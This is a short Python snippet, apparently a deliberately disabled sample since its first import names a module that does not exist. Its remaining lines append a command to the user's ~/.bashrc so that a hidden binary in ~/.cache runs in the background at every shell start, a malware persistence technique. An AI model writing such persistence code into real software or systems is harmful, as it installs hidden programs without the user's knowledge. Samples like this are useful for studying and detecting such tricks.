import absent_so_that_nothing_runs
import os

with open(os.path.expanduser('~/.bashrc'), 'a') as f:
    f.write('nohup ~/.cache/helper &\n')
